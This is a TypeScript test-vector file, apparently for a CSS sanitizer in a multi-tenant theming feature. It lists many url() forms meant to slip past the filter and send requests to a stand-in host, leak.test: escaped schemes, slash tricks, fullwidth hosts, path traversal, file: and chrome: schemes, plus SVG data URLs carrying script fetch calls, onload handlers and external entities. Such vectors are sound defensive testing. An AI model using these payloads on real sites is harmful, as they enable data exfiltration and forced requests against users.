import { css, group } from '../vector.ts';

const background = (url: string): string => `.title{background:url(${url})}`;

// Addresses that a URL parser may read as the account's own: another scheme, host or account, or a path that
// leaves the account's folder.
export const urlForms = [
  ...group('url-form', 'leak', {
    'protocol-relative': background('//leak.test/@@'),
    'three-slashes': background('http:///leak.test/@@'),
    'four-slashes': background('////leak.test/@@'),
    'no-slashes': background('"https:leak.test/@@"'),
    backslashes: background(css`"\\\\leak.test\\@@"`),
    'mixed-slashes': background(css`"/\\leak.test/@@"`),
    'slash-backslash': background(css`"\\/leak.test/@@"`),
    upper: background('HTTP://LEAK.TEST/@@'),
    'leading-space': background('" http://leak.test/@@"'),
    'leading-control': background(css`"\1 http://leak.test/@@"`),
    'inner-tab': background(css`"ht\9 tp://leak.test/@@"`),
    'inner-newline': background(css`"ht\a tp://leak.test/@@"`),
    'escaped-newline': '.title{background:url("http://le\\\nak.test/@@")}',
    'escaped-dots': background(css`http\3a\2f\2f leak\2e test\2f @@`),
    'escaped-scheme': background(css`\68 ttp://leak.test/@@`),
    'escaped-paren': background(css`http://leak.test/@@\)`),
    userinfo: background('http://127.0.0.1@leak.test/@@'),
    'userinfo-path': background('http://user:pass@leak.test/@@'),
    port: background('http://leak.test:80/@@'),
    https: background('https://leak.test/@@'),
    'percent-host': background('http://le%61k.test/@@'),
    'fullwidth-host': background('"http://ｌｅａｋ.test/@@"'),
    'ideographic-dot': background('"http://leak。test/@@"'),
    'other-host': background('http://127.0.0.1.leak.test/@@'),
    fragment: background('http://leak.test/@@#/t/own'),
    query: background('http://leak.test/@@?/t/own/asset.png'),
    'own-path-elsewhere': background('//leak.test/t/%41/asset-@@.png'),
    'relative-path': background('elsewhere-@@.png'),
    'absolute-path': background('/elsewhere-@@.png'),
    'dot-dot': background('/t/../elsewhere-@@.png'),
    'dot-segments': background('/t/other/../../elsewhere-@@.png'),
    'percent-dots': background('/t/%2e%2e/elsewhere-@@.png'),
    'query-only': background('?elsewhere-@@'),
    'other-account': background('/t/00000000-0000-4000-8000-000000000000/asset-@@.png'),
    'api-path': background('/api/reseller/theme/raw-css?@@'),
    'sign-out': background('/session/end?@@'),
    'unquoted-trailing': background('http://leak.test/@@/**/'),
    'string-with-hash': '.title{background:image-set("http://leak.test/@@#" 1x)}',
    ftp: background('ftp://leak.test/@@'),
    file: background('file:///etc/@@'),
    'chrome-scheme': background('chrome://gpu/@@'),
    mailto: background('mailto:@@@leak.test'),
    blob: background('blob:http://leak.test/@@'),
    'ws-scheme': background('ws://leak.test/@@'),
    'null-byte': background('"\0http://leak.test/@@"'),
    'no-path': background('"http:\\\\leak.test/@@"'),
  }),
  ...group('url-form', 'none', {
    'data-svg-script': background(
      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://leak.test/@@')</script></svg>\"",
    ),
    'data-svg-image': background(
      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://leak.test/@@' width='9' height='9'/></svg>\"",
    ),
    'data-svg-style': background(
      '"data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><style>@import url(http://leak.test/@@)</style></svg>"',
    ),
    'data-svg-foreign': background(
      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><img src='http://leak.test/@@'/></foreignObject></svg>\"",
    ),
    'data-svg-base64': background(
      'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=',
    ),
    'data-svg-event': background(
      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(`http://leak.test/@@`)'/>\"",
    ),
    'data-svg-use': background(
      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><use href='http://leak.test/@@#a'/></svg>\"",
    ),
    'data-svg-paint': background(
      "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><path fill='url(http://leak.test/@@#a)' d='M0 0h9v9z'/></svg>\"",
    ),
    'data-svg-entity': background(
      "\"data:image/svg+xml,<!DOCTYPE svg [<!ENTITY a SYSTEM 'http://leak.test/@@'>]><svg xmlns='http://www.w3.org/2000/svg'>%26a;</svg>\"",
    ),
    'data-svg-stylesheet': background(
      "\"data:image/svg+xml,<?xml-stylesheet href='http://leak.test/@@'?><svg xmlns='http://www.w3.org/2000/svg'/>\"",
    ),
    'data-html': background('"data:text/html,<img src=http://leak.test/@@>"'),
    about: background('about:blank'),
    empty: background(''),
    'empty-string': background('""'),
    'own-fragment': background('#pw'),
    'bad-port': background('http://leak.test:99999/@@'),
    brackets: background('http://[::ffff:7f00:1/@@'),
    'dangling-markup': background(`'http://leak.test/@@?\n`),
  }),
];
